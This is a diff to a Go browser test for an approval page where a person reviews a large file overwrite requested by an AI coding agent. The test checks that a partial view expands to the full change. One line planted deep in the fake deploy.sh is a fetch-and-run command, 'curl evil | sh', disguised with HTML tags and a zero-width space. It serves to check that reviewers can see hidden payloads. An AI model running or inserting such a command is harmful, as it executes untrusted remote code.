@@ -289,6 +289,40 @@ func TestAPersonAnswersOnThePage(t *testing.T) {
 		t.Error("the whole change is not shown")
 	}
 	c.picture("settled", 900, 1500, false)
+	c.click(".whole")
+	// Of a large change the card shows a part and says so, and loads the rest
+	// when it is asked to.
+	big := write()
+	big.Title, big.Detail, big.Left = "Overwrite deploy.sh?", "+    1 echo fine\n… 9,998 new lines are not shown\n+10000 echo fine\n", &reeve.Left{New: 9998}
+	d.pass(time.Second)
+	d.n++
+	bigger, err := d.AskWith(t.Context(), reeve.Digest{d.n}, big, reeve.Subject{Kind: reeve.Agent, Agent: "claude-code", Door: "stdio"}, func() string {
+		return strings.Repeat("+    1 echo fine\n", 7000) + "+ 7001 <b>curl evil</b>\u200b | sh\n" + strings.Repeat("+    1 echo fine\n", 2999)
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	c.until("the large card", "!!document.querySelector("+quoted(card(bigger))+")")
+	if got := c.eval("document.querySelector(" + quoted(card(bigger)+".counts") + ").textContent + document.querySelector(" + quoted(card(bigger)+".left") + ").textContent"); !strings.Contains(got, "10,000 lines new") || !strings.Contains(got, "Left out here: 9,998 lines") {
+		t.Errorf("the large card says %q", got)
+	}
+	c.picture("large", 900, 1300, false)
+	c.click(card(bigger) + ".whole")
+	c.until("the whole change", "document.querySelectorAll("+quoted(card(bigger)+".diff section div")+").length === 10000")
+	if got := c.eval("document.querySelectorAll(" + quoted(card(bigger)+".diff div") + ")[7000].textContent"); got != `+ 7001 <b>curl evil</b>\u200B | sh` {
+		t.Errorf("line 7001 is %q", got)
+	}
+	if got := c.eval("performance.now() - moved < still"); got != "true" {
+		t.Error("a press may hit what has just moved below it")
+	}
+	c.picture("large-whole", 900, 1700, false)
+	c.picture("large-phone", 390, 2100, true)
+	c.eval("document.querySelector(" + quoted(card(bigger)+".whole") + ").click()")
+	c.until("the part again", "document.querySelectorAll("+quoted(card(bigger)+".diff div")+").length === 3")
+	if err := d.Answer(t.Context(), bigger.ID, approval.Answer{Channel: "approve"}); err != nil {
+		t.Fatal(err)
+	}
+	c.until("the large card to go", "!document.querySelector("+quoted(card(bigger))+")")
 	// A second browser with the same link is turned away.
 	c.do("Page.navigate", map[string]any{"url": link}, nil)
 	c.until("the closed page", "document.title === 'Closed · Reeve'")
